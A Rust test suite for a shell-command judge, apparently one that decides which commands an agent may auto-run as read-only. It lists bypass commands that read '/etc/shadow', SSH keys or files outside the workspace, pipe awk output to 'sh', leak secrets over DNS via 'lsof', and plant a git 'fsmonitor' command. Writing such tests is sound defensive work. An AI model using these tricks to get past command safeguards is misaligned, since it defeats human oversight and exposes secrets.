//! The adversarial classes of the judge's third round: false allows in
//! build mode that a review proved by running them. Each class is a table
//! of `(command, allowed, rule)` judged in a fixture (a workspace `ws`
//! beside a directory `outside` holding `secret`), with benign controls
//! that must stay allowed. `allowed` is build mode's auto-allow (read-only
//! with no path outside the workspace); `rule` is the rule that must
//! decide: the verdict's (a prefix of it), or for an allowed command the
//! first simple command's.

#![allow(clippy::panic, clippy::unwrap_used)]

use std::path::{Path, PathBuf};

use shellward_judge::{Context, judge};
use shellward_syntax::analyze;

/// A workspace `ws` and a directory `outside` beside it, removed on drop.
struct Fixture {
    _root: tempfile::TempDir,
    ws: PathBuf,
}

impl Fixture {
    fn new() -> Fixture {
        let root = tempfile::Builder::new()
            .prefix("shellward-round3-")
            .tempdir()
            .unwrap();
        let base = root.path().canonicalize().unwrap();
        let ws = base.join("ws");
        std::fs::create_dir_all(ws.join("d")).unwrap();
        std::fs::create_dir_all(base.join("outside")).unwrap();
        std::fs::write(base.join("outside/secret"), "secret\n").unwrap();
        Fixture { _root: root, ws }
    }

    /// Write `text` to `name` below the workspace (directories made).
    fn file(&self, name: &str, text: &str) -> &Fixture {
        let path = self.ws.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
        self
    }

    fn context(&self, cwd: &str) -> Context {
        Context::new(self.ws.join(cwd), &self.ws)
    }
}

/// Judge every row from `cwd` (relative to the workspace); the failures.
fn check(fx: &Fixture, cwd: &str, rows: &[(&str, bool, &str)]) {
    let ctx = fx.context(cwd);
    let failures: Vec<String> = rows
        .iter()
        .filter_map(|&(command, want, rule)| {
            let command = command.replace("WS", &fx.ws.display().to_string());
            let v = judge(&analyze(&command), &ctx);
            let allowed = v.read_only && v.external_paths.is_empty();
            let first = v.commands.first().map_or("", |c| &*c.rule);
            let decided = if allowed { first } else { &*v.rule };
            (allowed != want || !decided.starts_with(rule)).then(|| {
                format!(
                    "{command:?}: want ({want}, {rule}), got ({allowed}, {decided}) {}",
                    v.reason
                )
            })
        })
        .collect();
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

fn outside(fx: &Fixture) -> String {
    let base: &Path = fx.ws.parent().unwrap();
    format!("path.outside:{}", base.display())
}

/// Class 8: a `..` after a glob component leaves the directory the glob
/// starts in; the glob is expanded and every match resolved.
#[test]
fn globs_that_climb() {
    let fx = Fixture::new();
    fx.file("d/x", "x\n");
    let out = outside(&fx);
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("cat d*/../../outside/secret",          false, &out),
        ("cat */../..",                          false, &out),
        ("cat ?/../../outside/secret",           false, &out),
        ("cat [d]/../../outside/secret",         false, &out),
        ("cat WS/*/../../outside/secret",        false, &out),
        ("grep -r . */../../outside",            false, &out),
        ("head */../../home/.ssh/id_rsa",        false, &out),
        // The shell lists the directories it matches in: names outside.
        ("echo */../../*",                       false, &out),
        // Controls: globs that stay below where they start.
        ("cat d/*.txt",                          true,  "readonly"),
        ("cat d*/x",                             true,  "readonly"),
        ("ls */..",                              true,  "readonly"),
        ("cat d/*/../x",                         true,  "readonly"),
    ];
    check(&fx, "", rows);
    // A link matched by the glob is followed before the `..` (kernel order).
    std::fs::create_dir_all(fx.ws.join("a/b")).unwrap();
    std::os::unix::fs::symlink(fx.ws.join("a/b"), fx.ws.join("d/l")).unwrap();
    check(
        &fx,
        "",
        &[
            ("cat d/*/../x", true, "readonly"),
            ("cat d/*/../../../x", false, &out),
        ],
    );
}

/// Class 9: an argument holding the replace string with other text is a
/// path made from each name (`{}/../x`): it can lead anywhere.
#[test]
fn arguments_made_from_names() {
    let fx = Fixture::new();
    fx.file("a.rs", "fn main() {}\n");
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("find . -maxdepth 0 -exec cat {}/../outside/secret \\;", false, "find.exec_argument"),
        ("find . -exec cat ../{} \\;",                           false, "find.exec_argument"),
        ("find . -exec grep -f{} x \\;",                         false, "find.exec_argument"),
        ("find . | xargs -I@ grep . @/../outside/secret",        false, "xargs.replace_argument"),
        ("find . | xargs -I@ grep . x@",                         false, "xargs.replace_argument"),
        // The replace string found inside the program's name or an option.
        ("find . | xargs -I gr grep x @",                        false, "xargs.replace_argument"),
        ("find . | xargs -I - grep -e x @",                      false, "xargs.replace_argument"),
        ("find . | xargs -I '' grep x",                          false, "xargs.replace_argument"),
        // Controls.
        ("find . -name '*.rs' -exec grep -l main {} +",          true,  "readonly.find_exec:grep"),
        ("find . -type d -exec wc -l {}/a.rs \\;",               true,  "readonly.find_exec:wc"),
        ("find . -name '*.rs' | xargs -I@ grep -H main @",       true,  "readonly"),
        ("find . -type d | xargs -I{} head -1 {}/a.rs",          true,  "readonly"),
    ];
    check(&fx, "", rows);
}

/// Run git in `dir`; panics when it fails.
fn git(dir: &Path, args: &[&str]) {
    let out = std::process::Command::new("git")
        .args(["-c", "user.email=t@example.com", "-c", "user.name=t"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Class 10: only a lister's name-only output modes feed `xargs`; text it
/// prints in any other mode (`-printf`, `--format`, content) could name
/// anything. The names listed must read back as themselves.
#[test]
fn listers_print_names_only_in_some_modes() {
    let fx = Fixture::new();
    fx.file("a.rs", "// TODO\n")
        .file("paths.txt", "../outside/secret\n");
    git(&fx.ws, &["init", "-q"]);
    git(&fx.ws, &["add", "a.rs"]);
    git(&fx.ws, &["commit", "-qm", "a"]);
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("find . -printf '../outside/secret\\n' | xargs grep .",           false, "xargs.names_from_data"),
        ("find . -ls | xargs grep .",                                      false, "xargs.names_from_data"),
        ("find . -exec cat {} + | xargs grep .",                           false, "xargs.names_from_data"),
        ("git ls-files --format=../outside/secret | xargs grep .",         false, "xargs.names_from_data"),
        ("git log -1 --format=tformat:../x | xargs grep .",                false, "xargs.names_from_data"),
        ("git config --get sw.x | xargs grep .",                           false, "xargs.names_from_data"),
        ("git ls-files -s | xargs grep .",                                 false, "xargs.names_from_data"),
        ("git ls-tree -r --name-only HEAD | xargs grep .",                 false, "xargs.names_from_data"),
        ("git diff --name-only HEAD~1 | xargs grep .",                     false, "xargs.names_from_data"),
        ("git grep -l TODO HEAD | xargs grep .",                           false, "xargs.names_from_data"),
        ("grep -h . paths.txt | xargs grep .",                             false, "xargs.names_from_data"),
        ("grep -c x a.rs | xargs grep .",                                  false, "xargs.names_from_data"),
        ("grep -l x --label=../outside/secret | xargs grep .",             false, "xargs.names_from_data"),
        ("ls -l | xargs grep .",                                           false, "xargs.names_from_data"),
        ("ls -R | xargs grep .",                                           false, "xargs.names_from_data"),
        ("rg -c x | xargs grep .",                                         false, "xargs.names_from_data"),
        ("fd -l rs | xargs grep .",                                        false, "xargs.names_from_data"),
        // Controls: names only.
        ("find . -name '*.rs' | xargs grep foo",                           true,  "readonly"),
        ("find . -type f -print0 | xargs -0 grep -l TODO",                 true,  "readonly"),
        ("git ls-files | xargs grep -l TODO",                              true,  "readonly"),
        ("git ls-files -z | xargs -0 wc -l",                               true,  "readonly"),
        ("git diff --name-only | xargs grep x",                            true,  "readonly"),
        ("git grep -l TODO | xargs wc -l",                                 true,  "readonly"),
        ("grep -rl TODO . | xargs wc -l",                                  true,  "readonly"),
        ("rg --files | xargs wc -l",                                       true,  "readonly"),
        ("rg -l TODO src | xargs wc -l",                                   true,  "readonly"),
        ("ls | xargs wc -l",                                               true,  "readonly"),
        ("ls -1a | xargs wc -l",                                           true,  "readonly"),
    ];
    check(&fx, "", rows);
    // A name xargs reads as two: a directory `x ..` holding `outside/secret`
    // is listed `./x ../outside/secret`, which leaves.
    fx.file("x ../outside/secret", "");
    #[rustfmt::skip]
    let split: &[(&str, bool, &str)] = &[
        ("find . -type f | xargs grep .",                                  false, "xargs.names_from_data"),
        ("ls | xargs wc -l",                                               false, "xargs.names_from_data"),
        // NUL-separated, it is one name, below the workspace.
        ("find . -type f -print0 | xargs -0 grep .",                       true,  "readonly"),
    ];
    check(&fx, "", split);
    std::fs::remove_dir_all(fx.ws.join("x ..")).unwrap();
    // A name that becomes an option of the reader (`wc --files0-from=F`).
    fx.file("--files0-from=.l", "")
        .file(".l", "../outside/secret\0");
    check(
        &fx,
        "",
        &[("ls | xargs wc -c", false, "xargs.names_from_data")],
    );
    std::fs::remove_file(fx.ws.join("--files0-from=.l")).unwrap();
    // An index entry with no file behind it, which only the index names.
    git(
        &fx.ws,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            "100644,e69de29bb2d1d6434b8b29ae775ad8c2e48c5391,x ../outside/secret",
        ],
    );
    #[rustfmt::skip]
    let index: &[(&str, bool, &str)] = &[
        ("git ls-files | xargs grep .",                                    false, "xargs.names_from_data"),
        ("find . -name '*.rs' | xargs grep foo",                           true,  "readonly"),
    ];
    check(&fx, "", index);
}

/// Class 11: awk statements are read as awk reads them: a `;`, `}` or
/// newline inside a string, or a newline after a comma, does not end a
/// `print` before its redirection.
#[test]
fn awk_redirections_behind_strings_and_continuations() {
    let fx = Fixture::new();
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("awk 'BEGIN{print \";\" > \"PWN1\"}'",               false, "readonly.awk_program"),
        ("awk 'BEGIN{printf \"}\" > \"PWN3\"}'",              false, "readonly.awk_program"),
        ("awk $'BEGIN{print \"a\",\\n\"b\" > \"PWN2\"}'",     false, "readonly.awk_program"),
        ("awk 'BEGIN{print \"a\" \\\n > \"PWN4\"}'",          false, "readonly.awk_program"),
        ("awk 'BEGIN{print \"a\", # c\n \"b\" > \"PWN5\"}'",  false, "readonly.awk_program"),
        ("awk '{printf(\"%s\", $1) > \"o\"}' f",              false, "readonly.awk_program"),
        ("awk '{print | \"sh\"}' f",                          false, "readonly.awk_program"),
        ("awk '\"id\" | getline x' f",                        false, "readonly.awk_program"),
        ("awk 'BEGIN{system(\"id\")}'",                       false, "readonly.awk_program"),
        ("awk 'BEGIN{getline < \"/etc/shadow\"}'",            false, "readonly.awk_program"),
        ("awk '{if (x) /\"/; print > \"o\"; y = \"/\"}' f",   false, "readonly.awk_program"),
        ("awk '$1 ~ /[/]/' f",                                false, "readonly.awk_program"),
        ("awk '{print \"x' f",                                false, "readonly.awk_program"),
        // gawk joins every -e source: each is read.
        ("gawk -e 'BEGIN{print 1 > \"o\"}' -e 'BEGIN{}'",     false, "readonly.awk_program"),
        // Controls: comparisons, not redirections.
        ("awk '{print $1}' f",                                true,  "readonly"),
        ("awk '$3 > 100' f",                                  true,  "readonly"),
        ("awk '{if ($1 > 5) print}' f",                       true,  "readonly"),
        ("awk '{print ($1 > 5)}' f",                          true,  "readonly"),
        ("awk '/a|b/ {print $2}' f",                          true,  "readonly"),
        ("awk -F, '{print $2 \" > \" $3}' f",                 true,  "readonly"),
        ("awk '{n++} END {print n / 2}' f",                   true,  "readonly"),
        ("awk '$1 ~ /^[[:alpha:]]+$/' f",                     true,  "readonly"),
    ];
    check(&fx, "", rows);
}

/// Class 12: GNU tar reads a `-T` file's lines that start with `-` as
/// options (another `-T`, `-C`), unless `--verbatim-files-from` came first.
#[test]
fn tar_lists_with_options() {
    let fx = Fixture::new();
    fx.file("list.txt", "a.txt\nsrc/b.rs\n")
        .file("list2.txt", "a.txt\n-T/outside/secret\n")
        .file("list3.txt", "--files-from=../outside/secret\n");
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("tar -tf a.tar -T list2.txt",                               false, "readonly.argument_file"),
        ("tar -tf a.tar --files-from=list3.txt",                     false, "readonly.argument_file"),
        ("tar -tf a.tar -Tlist2.txt",                                false, "readonly.argument_file"),
        ("tar -tf a.tar -T list.txt -T list2.txt",                   false, "readonly.argument_file"),
        ("tar -tf a.tar -T -",                                       false, "readonly.argument_file"),
        ("tar -tf a.tar -T l*",                                      false, "readonly.argument_file"),
        ("tar -tf a.tar -T list2.txt --verbatim-files-from",         false, "readonly.argument_file"),
        ("tar -tf a.tar --verbatim-files-from --no-verbatim-files-from -T list2.txt", false, "readonly.argument_file"),
        // Controls.
        ("tar -tf a.tar",                                            true,  "readonly.flags:tar"),
        ("tar -tf a.tar -T list.txt",                                true,  "readonly.flags:tar"),
        ("tar -tf a.tar -T missing.txt",                             true,  "readonly.flags:tar"),
        ("tar -tf a.tar --verbatim-files-from -T list2.txt",         true,  "readonly.flags:tar"),
    ];
    check(&fx, "", rows);
}

/// Class 13: `lsof -i@HOST` looks the host name up: DNS carries it out.
#[test]
fn lsof_host_names() {
    let fx = Fixture::new();
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("lsof -i@exfil-SECRETDATA.example.invalid",  false, "readonly.host_lookup"),
        ("lsof -i @exfil.example.invalid",            false, "readonly.host_lookup"),
        ("lsof -i tcp@exfil.example.invalid:443",     false, "readonly.host_lookup"),
        ("lsof -ni@exfil.example.invalid",            false, "readonly.host_lookup"),
        ("lsof -i '@[exfil]:80'",                     false, "readonly.host_lookup"),
        // Controls: ports, protocols and addresses.
        ("lsof -i :3000",                             true,  "readonly.flags:lsof"),
        ("lsof -i tcp:443",                           true,  "readonly.flags:lsof"),
        ("lsof -i @127.0.0.1",                        true,  "readonly.flags:lsof"),
        ("lsof -i4@10.0.0.1:22",                      true,  "readonly.flags:lsof"),
        ("lsof -i '@[::1]:8080'",                     true,  "readonly.flags:lsof"),
        ("lsof -i",                                   true,  "readonly.flags:lsof"),
    ];
    check(&fx, "", rows);
}

/// Class 14: npm writes `~/.npm/_logs/*` and asks the registry whether it
/// is outdated for any command; pnpm prints its version before reading
/// any configuration.
#[test]
fn npm_writes_logs_and_checks_for_updates() {
    let fx = Fixture::new();
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("npm ls",                                      false, "readonly.unknown:npm"),
        ("npm ls --depth=0",                            false, "readonly.unknown:npm"),
        ("npm --version",                               false, "readonly.unknown:npm"),
        ("npm -v",                                      false, "readonly.unknown:npm"),
        ("NPM_CONFIG_UPDATE_NOTIFIER=false npm --version", false, "readonly.unknown:npm"),
        ("npx --version",                               false, "readonly.unknown:npx"),
        // Controls.
        ("pnpm --version",                              true,  "readonly.version:pnpm"),
        ("pnpm -v",                                     true,  "readonly.version:pnpm"),
    ];
    check(&fx, "", rows);
}

/// Class 15: GNU date reads `TZ="VALUE"` at the start of a date string
/// and loads VALUE as a zone: a path opens any file.
#[test]
fn date_strings_with_a_zone_file() {
    let fx = Fixture::new();
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("date -d 'TZ=\"/outside/secret\" now'",            false, "readonly.date_zone"),
        ("date --date='  TZ=\"../../outside/secret\" now'", false, "readonly.date_zone"),
        ("date -d 'TZ=\":/etc/shadow\" now'",               false, "readonly.date_zone"),
        ("date -d 'TZ=\"/x\\\"y\" now'",                    false, "readonly.date_zone"),
        ("date -d 2024-01-01 -d 'TZ=\"/etc/shadow\" now'",  false, "readonly.date_zone"),
        ("date -d 'now TZ=\"/etc/shadow\"'",                false, "readonly.date_zone"),
        ("date -d 'TZ=\"/etc/shadow'",                      false, "readonly.date_zone"),
        // Other programs' date strings are not in the tables.
        ("find . -newermt 'TZ=\"/etc/shadow\" now'",        false, "readonly.flag:find"),
        ("touch -d 'TZ=\"/etc/shadow\" now' f",             false, "readonly.unknown:touch"),
        ("date -f /etc/shadow",                             false, "readonly.flag:date:-f"),
        // Controls.
        ("date -d '2024-01-01'",                            true,  "readonly.flags:date"),
        ("date -d 'TZ=\"Europe/Paris\" now'",               true,  "readonly.flags:date"),
        ("date -d 'TZ=\"UTC\" 2024-01-01 12:00' +%s",       true,  "readonly.flags:date"),
        ("date -d yesterday +%F",                           true,  "readonly.flags:date"),
    ];
    check(&fx, "", rows);
}

/// Class 16: `whereis -B DIR -f NAME` searches, and lists, any directory.
#[test]
fn whereis_lists_only_its_own_places() {
    let fx = Fixture::new();
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("whereis -B /home/u/.ssh -f id_rsa",  false, "readonly.flag:whereis:-B"),
        ("whereis -M ../outside -f secret",    false, "readonly.flag:whereis:-M"),
        ("whereis -S /root -f x",              false, "readonly.flag:whereis:-S"),
        ("whereis -bS /root -f x",             false, "readonly.flag:whereis:-S"),
        ("whereis -f x",                       false, "readonly.flag:whereis:-f"),
        // Controls.
        ("whereis ls",                         true,  "readonly.flags:whereis"),
        ("whereis -b git cargo",               true,  "readonly.flags:whereis"),
        ("whereis -l",                         true,  "readonly.flags:whereis"),
    ];
    check(&fx, "", rows);
}

/// Class 17: a glob can expand to an option, of the program, not only of
/// its row: `wc --files0-from=F` reads names from F, `sha256sum -c` reads
/// its operands as lists of names, `ls -RL` and `zcat -rf` follow links.
#[test]
fn globs_that_become_options() {
    let fx = Fixture::new();
    fx.file("a.rs", "fn main() {}\n").file("src/b.rs", "\n");
    #[rustfmt::skip]
    let controls: &[(&str, bool, &str)] = &[
        // No name starts with `-`: no glob becomes an option.
        ("wc -l src/*.rs",    true, "readonly.flags:wc"),
        ("wc -l *.rs",        true, "readonly.flags:wc"),
        ("du -sh *",          true, "readonly.flags:du"),
        ("sha256sum *",       true, "readonly.flags:sha256sum"),
        // A program a glob could make write is judged without looking.
        ("sort *",            false, "glob.may_be_option:sort"),
        ("ls *",              true, "readonly.flags:ls"),
        ("cat *.rs",          true, "readonly.flags:cat"),
    ];
    check(&fx, "", controls);
    fx.file("w/--files0-from=.l", "")
        .file("w/.l", "../../outside/secret\0");
    fx.file("w/-c", "").file("w/-o", "").file("w/-rf", "");
    std::fs::create_dir_all(fx.ws.join("w/deep")).unwrap();
    std::os::unix::fs::symlink(
        fx.ws.parent().unwrap().join("outside"),
        fx.ws.join("w/deep/l"),
    )
    .unwrap();
    let out = outside(&fx);
    #[rustfmt::skip]
    let rows: &[(&str, bool, &str)] = &[
        ("wc -c *",           false, "glob.may_be_option:wc"),
        ("wc -l *.l",         false, "glob.may_be_option:wc"),
        ("du -sh *",          false, "glob.may_be_option:du"),
        ("sha256sum *",       false, "glob.may_be_option:sha256sum"),
        ("md5sum *",          false, "glob.may_be_option:md5sum"),
        ("cksum *",           false, "glob.may_be_option:cksum"),
        ("xzcat *",           false, "glob.may_be_option:xzcat"),
        ("sort *",            false, "glob.may_be_option:sort"),
        // Readers whose options at most recurse or follow links: the
        // trees are scanned, and `deep/l` leads out.
        ("ls *",              false, &out),
        ("zcat *",            false, "readonly.argument_file"),
        ("grep x *",          false, &out),
        // Globs with a static start that is not `-` are no options.
        ("wc -l deep/*",      false, &out),
        ("cat ./*",           true,  "readonly.flags:cat"),
    ];
    check(&fx, "w", rows);
}

/// A review of this round's own code (2026-12-01): what its new readers
/// read differently from the programs. awk's bracket expressions
/// (`[.`, `[=` are plain characters to mawk, the start of a collating
/// symbol to others: the regex ends elsewhere), `xargs -d` splitting a
/// lister's names at another character, a `#` inside a jq string.
#[test]
fn the_new_readers_read_as_the_programs_do() {
    let fx = Fixture::new();
    fx.file("fooX/x", "inside\n");
    #[rustfmt::skip]
    check(&fx, "", &[
        (r##"awk 'BEGIN{ if ("a" ~ /[[.a]/) n=1; print "touch P" | "sh" } # .]]/ )'"##, false, "readonly.awk_program"),
        (r##"awk 'BEGIN{ if ("a" ~ /[[=a]/) n=1; print "x" > "P" } # =]]/ )'"##,     false, "readonly.awk_program"),
        (r#"awk '/[[:alpha:]]+/ { print $1 }' f"#,                                      true,  "readonly.flags:awk"),
        ("awk -e '{print}' WS/../outside/secret",                                       false, "readonly.awk_program"),
        ("find fooX -type f | xargs -d X head",                                         false, "xargs"),
        ("find . -type f | xargs head",                                                 true,  "readonly.flags:find"),
        (r##"jq -nr '"#" as $x | $ENV.SECRET'"##,                                       false, "secrets.jq_env"),
        (r##"jq -n '"\("#") \($ENV)"'"##,                                               false, "secrets.jq_env"),
        (r##"jq -n '"a # b" | length'"##,                                               true,  "readonly.flags:jq"),
    ]);
}

/// A `.git` file is read as git reads it: exactly `gitdir: `, then the
/// path with only its trailing CR/LF dropped, so `gitdir:  /x` names a
/// directory ` /x` beside the file, not `/x`.
#[test]
fn a_gitdir_file_is_read_as_git_reads_it() {
    let fx = Fixture::new();
    let base = fx.ws.parent().unwrap().to_path_buf();
    git(&base, &["init", "-q", "clean"]);
    let sub = fx.ws.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    let clean = base.join("clean/.git");
    std::fs::write(sub.join(".git"), format!("gitdir:  {}\n", clean.display())).unwrap();
    // What git really uses: ` /BASE/clean/.git` beside the file, planted.
    let planted = sub.join(format!(" {}", clean.display()));
    std::fs::create_dir_all(planted.parent().unwrap()).unwrap();
    git(
        &sub,
        &["init", "-q", "--bare", &planted.display().to_string()],
    );
    std::fs::write(
        planted.join("config"),
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = \"touch P; false\"\n",
    )
    .unwrap();
    let v = judge(&analyze("git status"), &fx.context("sub"));
    assert!(!v.read_only, "git status with a planted gitdir: {}", v.rule);
}

/// A third review (2026-12-01): programs that read another name than the
/// operand (gzip's and unzip's suffix search), an option read as a file of
/// arguments, options after operands that POSIX-style programs take as
/// operands, a locale or a sysroot named by an option, a name re-opened
/// while a program runs.
#[test]
fn programs_that_read_another_name() {
    let fx = Fixture::new();
    fx.file("a.txt", "hello\n");
    std::os::unix::fs::symlink("../outside/secret", fx.ws.join("x.gz")).unwrap();
    #[rustfmt::skip]
    check(&fx, "", &[
        ("zcat -f x",                    false, "readonly.argument_file"),
        ("gzip -dcf x",                  false, "readonly.argument_file"),
        ("gunzip -cf x",                 false, "readonly.argument_file"),
        ("unzip -p y",                   false, "readonly.argument_file"),
        ("unzip -p 'y*.zip'",            false, "readonly.argument_file"),
        ("strings -s @../outside/secret a.txt", false, "readonly.response_file"),
        ("xxd a.txt -p",                 false, "readonly.output_operand"),
        ("man -L ../../tmp/x ls",        false, "readonly.flag"),
        ("lscpu -s r",                   false, "readonly.flag"),
        ("tail -F later.log",            false, "readonly.flag"),
        ("tail -f a.txt",                true,  "readonly.flags:tail"),
        ("xxd a.txt",                    true,  "readonly.flags:xxd"),
        ("lscpu",                        true,  "readonly.flags:lscpu"),
    ]);
}
